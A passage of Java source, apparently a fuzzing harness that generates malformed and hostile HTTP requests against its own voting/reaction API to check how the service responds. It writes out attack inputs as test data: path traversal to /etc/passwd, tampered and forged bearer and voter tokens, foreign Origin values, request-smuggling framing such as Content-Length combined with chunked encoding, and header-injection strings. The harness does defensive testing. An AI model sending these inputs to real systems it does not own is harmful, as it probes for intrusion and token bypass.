                q.put("q=" + HostileRequest.abbreviate(text, 40), "q=" + text);
            }
        }
        if (e.name().equals("audit.list")) {
            for (String value : List.of("%00", "*", "%25", "_", "reaction.moderated.*", "a.*.*", "%5C", "%20", "",
                    "x".repeat(3000), ".*", "*.*", CANARY)) {
                q.put("action=" + HostileRequest.abbreviate(value, 30), "action=" + value);
                q.put("actor=" + HostileRequest.abbreviate(value, 30), "actor=" + value);
                q.put("entityType=" + HostileRequest.abbreviate(value, 30), "entityType=" + value);
            }
            for (String value : List.of("not-a-uuid", "%00", "x".repeat(3000), "", "00000000-0000-0000-0000-000000000000",
                    "%7B00000000-0000-0000-0000-000000000000%7D", CANARY)) {
                q.put("entityId=" + HostileRequest.abbreviate(value, 30), "entityId=" + value);
            }
        }
        for (Map.Entry<String, String> query : q.entrySet()) {
            mutate(e, "query " + query.getKey(), r -> r.echoChecked().target = path + "?" + query.getValue());
        }
    }

    // ---- Authorization ----------------------------------------------------------------------------------------------------

    private void authorizations(Endpoint e) {
        Map<String, String> values = new LinkedHashMap<>();
        values.put("Bearer alone", "Bearer");
        values.put("Bearer and space", "Bearer ");
        values.put("Bearer two spaces x", "Bearer  x");
        values.put("Bearer x", "Bearer x");
        values.put("Bearer a.b.c", "Bearer a.b.c");
        values.put("Bearer canary", "Bearer " + CANARY);
        values.put("Basic", "Basic dXNlcjpwYXNzd29yZA==");
        values.put("Basic garbage", "Basic !!!");
        values.put("Digest", "Digest username=\"x\", realm=\"y\"");
        values.put("lower-case scheme", "bearer " + s.admin());
        values.put("token and extra", "Bearer " + s.admin() + " extra");
        values.put("token twice", "Bearer " + s.admin() + s.admin());
        values.put("token without scheme", s.admin());
        values.put("8000-character token", "Bearer " + "a".repeat(8000));
        values.put("token with trailing dot", "Bearer " + s.admin() + ".");
        values.put("two-part token", "Bearer " + s.admin().substring(0, s.admin().lastIndexOf('.')));
        values.put("tampered payload", "Bearer " + tamper(s.admin()));
        if (e.official() || e.name().equals("tenants.get") || e.name().equals("polls.get")) {
            s.tokenVariants().forEach((name, token) -> values.put(name, "Bearer " + token));
        }
        for (Map.Entry<String, String> value : values.entrySet()) {
            mutate(e, "Authorization " + value.getKey(), r -> r.header("Authorization", value.getValue()));
        }
        mutate(e, "two Authorization headers", r -> r.header("Authorization", "Bearer " + s.admin())
                .addHeader("Authorization", "Bearer x"));
        mutate(e, "empty Authorization", r -> r.header("Authorization", ""));
        if (e.official()) {
            mutate(e, "no Authorization", r -> r.header("Authorization", null));
        } else {
            mutate(e, "official token on public endpoint", r -> r.header("Authorization", "Bearer " + s.admin()));
        }
    }

    // ---- other headers ----------------------------------------------------------------------------------------------------

    private void headers(Endpoint e) {
        Map<String, String[]> h = new LinkedHashMap<>();
        for (String accept : List.of("", "text/html", "application/xml", "??", "*/*;q=abc", "application/json;q=0",
                "text/csv", "text/csv;q=0", "text/csv; charset=ebcdic", "application/json;q=0, */*;q=0", "a".repeat(5000), "application/problem+json",
                "application/*;q=0.5, text/*", "*/*;q=1.5;level=x")) {
            h.put("Accept " + HostileRequest.abbreviate(accept, 30), new String[] {"Accept", accept});
        }
        boolean voter = e.headers().containsKey("Voter-Token") || e.name().equals("voter-tokens.issue");
        boolean receipt = e.headers().containsKey("Receipt-Token");
        for (String value : !voter ? List.<String>of() : List.of("", "x", "a.b", "a".repeat(600), "a".repeat(5000),
                ".", "..", "a.", ".b",
                "%00", "Bearer " + s.voterToken(), s.admin(), s.otherTenantVoterToken(),
                s.voterToken().substring(0, s.voterToken().length() - 2), s.voterToken() + "x",
                tamper(s.voterToken()), "\u00ff\u00fe")) {
            h.put("Voter-Token " + HostileRequest.abbreviate(value, 30), new String[] {"Voter-Token", value});
        }
        if (voter) {
            s.voterTokenVariants().forEach((name, token) -> h.put("Voter-Token " + name, new String[] {"Voter-Token",
                    token}));
        }
        boolean altcha = e.name().equals("voter-tokens.issue") || e.name().equals("reactions.submit");
        for (String value : !altcha ? List.<String>of() : List.of("", "bm9uc2Vuc2U=", "%%%", "a".repeat(10_000),
                "e30=", "W10=", "bnVsbA==", Base64.getEncoder().encodeToString(utf8("{\"algorithm\":\"SHA-256\","
                        + "\"challenge\":\"" + CANARY + "\",\"number\":1e400,\"salt\":null,\"signature\":[]}")))) {
            h.put("Altcha " + HostileRequest.abbreviate(value, 30), new String[] {"Altcha", value});
        }
        for (String value : !receipt ? List.<String>of() : List.of("", "x", "a".repeat(5000), s.receipt() + "x",
                s.withdrawReceipt(), "%00", "\u00ff")) {
            h.put("Receipt-Token " + HostileRequest.abbreviate(value, 30), new String[] {"Receipt-Token", value});
        }
        boolean anonymousWrite = !e.official() && !e.method().equals("GET");
        for (String value : !anonymousWrite && !e.name().equals("tenants.list") ? List.<String>of() : List.of(
                "not-an-ip", ", , ,", "1.1.1.1, 127.0.0.1", "x".repeat(10_000),
                "::ffff:1.2.3.4", "%00", "1.1.1.1,".repeat(500), "999.999.999.999", "[::1]:80", CANARY)) {
            h.put("X-Forwarded-For " + HostileRequest.abbreviate(value, 30), new String[] {"X-Forwarded-For", value});
        }
        for (String value : e.method().equals("GET") && !e.name().equals("tenants.list") ? List.<String>of() : List.of(
                "null", "https://evil.example", "https://samen.enkhuizen.nl.evil.example",
                "https://" + "a".repeat(5000), "", "*", "file://", "http://[::1", "https://xn--n3h.example")) {
            h.put("Origin " + HostileRequest.abbreviate(value, 30), new String[] {"Origin", value});
        }
        for (String value : !e.method().equals("GET") ? List.<String>of() : List.of("*", "W/\"x\"", "\"",
                "\"" + "a".repeat(5000) + "\"", "\"a\", \"b\"", ",,,", "garbage")) {
            h.put("If-None-Match " + HostileRequest.abbreviate(value, 20), new String[] {"If-None-Match", value});
        }
        h.put("If-Match garbage", new String[] {"If-Match", "garbage"});
        h.put("If-Modified-Since garbage", new String[] {"If-Modified-Since", "yesterday"});
        h.put("Range", new String[] {"Range", "bytes=0-0"});
        h.put("Range garbage", new String[] {"Range", "bytes=z-"});
        h.put("Expect 100-continue", new String[] {"Expect", "100-continue"});
        h.put("Expect garbage", new String[] {"Expect", CANARY});
        h.put("Content-Encoding gzip (not gzipped)", new String[] {"Content-Encoding", "gzip"});
        h.put("Content-Encoding garbage", new String[] {"Content-Encoding", CANARY});
        h.put("Accept-Encoding garbage", new String[] {"Accept-Encoding", "gzip;q=x, *;q=-1"});
        h.put("Accept-Charset garbage", new String[] {"Accept-Charset", CANARY});
        h.put("Accept-Language garbage", new String[] {"Accept-Language", "x-" + "a".repeat(1000)});
        h.put("X-Forwarded-Proto garbage", new String[] {"X-Forwarded-Proto", CANARY});
        h.put("X-HTTP-Method-Override", new String[] {"X-HTTP-Method-Override", "DELETE"});
        h.put("Cookie garbage", new String[] {"Cookie", "a=b; " + "c".repeat(3000)});
        h.put("raw 0xFF in header", new String[] {"X-Bad", "\u00ff\u00fe" + CANARY});
        h.put("raw UTF-8 in header", new String[] {"X-Bad", new String(utf8("é中😀"), StandardCharsets.ISO_8859_1)});
        for (Map.Entry<String, String[]> header : h.entrySet()) {
            mutate(e, header.getKey(), r -> r.header(header.getValue()[0], header.getValue()[1]).echoChecked());
        }
        mutate(e, "HTTP/1.0", r -> {
            r.version = "HTTP/1.0";
            r.header("Host", null);
        });
        mutate(e, "CORS preflight from a foreign origin", r -> {
            r.method = "OPTIONS";
            r.header("Origin", "https://evil.example").header("Access-Control-Request-Method", e.method())
                    .header("Access-Control-Request-Headers", "authorization, content-type, x-" + CANARY).body((byte[]) null);
        });
        mutate(e, "CORS preflight with garbage method", r -> {
            r.method = "OPTIONS";
            r.header("Origin", "https://evil.example").header("Access-Control-Request-Method", "\u00ff" + CANARY)
                    .body((byte[]) null);
        });
        mutate(e, "write from a foreign origin without preflight", r -> r.header("Origin", "https://evil.example"));
        if (REPRESENTATIVE.contains(e.name())) {
            framing(e);
        }
    }

    /** Broken HTTP framing: the HTTP layer answers these before the request reaches the application. */
    private void framing(Endpoint e) {
        Map<String, String[]> h = new LinkedHashMap<>();
        h.put("header of 15000 bytes", new String[] {"X-Big", "x".repeat(15_000)});
        h.put("header of 30000 bytes", new String[] {"X-Big", "x".repeat(30_000)});
        h.put("NUL in header value", new String[] {"X-Bad", "a\u0000b"});
        h.put("header name with space", new String[] {"X Bad", "1"});
        h.put("header name with colon only", new String[] {"", "1"});
        h.put("obs-fold", new String[] {"X-Folded", "a\r\n b"});
        for (Map.Entry<String, String[]> header : h.entrySet()) {
            mutate(e, header.getKey(), r -> r.header(header.getValue()[0], header.getValue()[1]));
        }
        mutate(e, "300 headers", r -> {
            for (int i = 0; i < 300; i++) {
                r.addHeader("X-H" + i, "v" + i);
            }
        });
        mutate(e, "no Host", r -> r.header("Host", null));
        mutate(e, "two Host headers", r -> r.addHeader("Host", "evil.example"));
        mutate(e, "Host garbage", r -> r.header("Host", "\u00ff" + CANARY + ":x"));
        mutate(e, "Host with port 99999", r -> r.header("Host", "127.0.0.1:99999"));
        mutate(e, "HTTP/2.0 in a 1.1 request", r -> r.version = "HTTP/2.0");
        mutate(e, "HTTP/9.9", r -> r.version = "HTTP/9.9");
        mutate(e, "no version", r -> r.version = "");
        mutate(e, "bare LF line ends", r -> r.lineEnd = "\n");
        mutate(e, "Content-Length -1", r -> {
            r.contentLength = false;
            r.header("Content-Length", "-1");
        });
        mutate(e, "Content-Length abc", r -> {
            r.contentLength = false;
            r.header("Content-Length", "abc");
        });
        mutate(e, "Content-Length 99999999999999999999", r -> {
            r.contentLength = false;
            r.header("Content-Length", "99999999999999999999");
        });
        mutate(e, "two different Content-Lengths", r -> {
            r.contentLength = false;
            byte[] body = r.body == null ? new byte[0] : r.body;
            r.header("Content-Length", String.valueOf(body.length)).addHeader("Content-Length", "1");
        });
        mutate(e, "Content-Length and chunked", r -> {
            r.addHeader("Content-Length", "3");
            r.chunked = true;
        });
        mutate(e, "Transfer-Encoding gzip", r -> {
            r.contentLength = false;
            r.header("Transfer-Encoding", "gzip");
        });
        mutate(e, "Transfer-Encoding garbage, chunked", r -> r.header("Transfer-Encoding", CANARY).chunked = true);
        mutate(e, "raw space in target", r -> r.target = r.target.replace("/api/v1/", "/api/v1/ x/"));
        mutate(e, "raw tab in target", r -> r.target = r.target + "\t");
        mutate(e, "target without leading slash", r -> r.target = r.target.substring(1));
        mutate(e, "absolute-form target", r -> r.target = "http://127.0.0.1:" + s.port() + r.target);
        mutate(e, "absolute-form target, other host", r -> r.target = "http://evil.example" + r.target);
        mutate(e, "target of 8000 characters", r -> r.target = r.target + "?q=" + "a".repeat(8000));
    }

    private void methods(Endpoint e) {
        for (String method : List.of("HEAD", "OPTIONS", "TRACE", "CONNECT", "FOO", "get", "PUT", "DELETE", "PATCH",
                "POST", "PROPFIND", "M".repeat(100))) {
            if (method.equals(e.method())) {
                continue;
            }
            mutate(e, "method " + HostileRequest.abbreviate(method, 20), r -> r.method = method);
        }
    }

    // ---- outside the endpoint list: the service's own error pages for other paths ------------------------------------------

    private void special() {
        Endpoint root = new Endpoint("other paths", "GET", "/", null, null, false, false, Map.of());
        for (String path : List.of("/api/v1", "/api/v1/", "/api/v1/" + CANARY, "/api", "/api/v1/tenants/",
                "/api/v1/tenants//projects", "/api/v1/tenants/enkhuizen/projects/", "/api/v1/openapi",
                "/api/v1/openapi.yaml", "/api/v1/openapi.json?format=%00", "/api/v1/../../etc/passwd",
                "/api/v1/%2e%2e/%2e%2e/etc/passwd", "/q/health/ready", "/q/health/%00", "/q/" + CANARY,
                "/q/metrics/" + CANARY, "/favicon.ico", "/index.html", "/..%2f..%2f", "*")) {
            HostileRequest r = request(root, path).copy("other path " + HostileRequest.abbreviate(path, 40));
            corpus.add(r);
        }
        HostileRequest star = request(root, "*").copy("OPTIONS *");
        star.method = "OPTIONS";
        corpus.add(star);
        HostileRequest garbageLine = request(root, "/").copy("garbage request line");
        garbageLine.rawTarget = utf8("\u0000\u0001 / \r\n");
        corpus.add(garbageLine);
    }

    // ---- JSON helpers -----------------------------------------------------------------------------------------------------

    private static void collect(JsonNode node, List<Object> path, List<List<Object>> out) {
        if (!path.isEmpty()) {
            out.add(List.copyOf(path));
        }
        if (node.isObject()) {
            node.fieldNames().forEachRemaining(name -> {
                path.add(name);
                collect(node.get(name), path, out);
                path.remove(path.size() - 1);
            });
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                path.add(i);
                collect(node.get(i), path, out);
                path.remove(path.size() - 1);
            }
        }
    }

    private static JsonNode at(JsonNode root, List<Object> path) {
        JsonNode node = root;
        for (Object step : path) {
            node = step instanceof Integer i ? node.get(i) : node.get((String) step);
        }
        return node;
    }

    private static String withNode(JsonNode root, List<Object> path, JsonNode value) {
        JsonNode copy = root.deepCopy();
        JsonNode parent = at(copy, path.subList(0, path.size() - 1));
        Object last = path.get(path.size() - 1);
        if (last instanceof Integer i) {
            ((ArrayNode) parent).set(i, value);
        } else {
            ((ObjectNode) parent).set((String) last, value);
        }
        try {
            return JSON.writeValueAsString(copy);
        } catch (Exception ex) {
            throw new IllegalStateException(ex);
        }
    }

    private static String withLiteral(JsonNode root, List<Object> path, String literal) {
        return withNode(root, path, TextNode.valueOf(HOLE)).replace("\"" + HOLE + "\"", literal);
    }

    private static byte[] withRawBytes(JsonNode root, List<Object> path, byte[] raw) {
        String json = withNode(root, path, TextNode.valueOf(HOLE));
        int at = json.indexOf(HOLE);
        return concat(utf8(json.substring(0, at)), utf8(CANARY), raw, utf8(json.substring(at + HOLE.length())));
    }

    private static String pointer(List<Object> path) {
        StringBuilder text = new StringBuilder();
        for (Object step : path) {
            text.append(step instanceof Integer i ? "[" + i + "]" : (text.isEmpty() ? "" : ".") + step);
        }
        return text.toString();
    }

    private static JsonNode parse(String json) {
        try {
            return JSON.readTree(json);
        } catch (Exception ex) {
            throw new IllegalStateException(json, ex);
        }
    }

    private static String firstKey(String json) {
        return parse(json).fieldNames().next();
    }

    private static String nestedObjects(int depth) {
        return "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
    }

    private static String manyKeys(int count) {
        StringBuilder text = new StringBuilder("{");
        for (int i = 0; i < count; i++) {
            text.append(i == 0 ? "" : ",").append("\"k").append(i).append("\":").append(i);
        }
        return text.append('}').toString();
    }

    private static String tamper(String token) {
        int dot = token.indexOf('.');
        char c = token.charAt(dot + 3);
        return token.substring(0, dot + 3) + (c == 'A' ? 'B' : 'A') + token.substring(dot + 4);
    }

    private static String b64(String text) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(utf8(text));
    }

    private static byte[] noise(int size) {
        byte[] data = new byte[size];
        long x = 0x9E3779B97F4A7C15L;
        for (int i = 0; i < size; i++) {
            x ^= x << 13;
            x ^= x >>> 7;
            x ^= x << 17;
            data[i] = (byte) x;
        }
        return data;
    }

    static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }
}
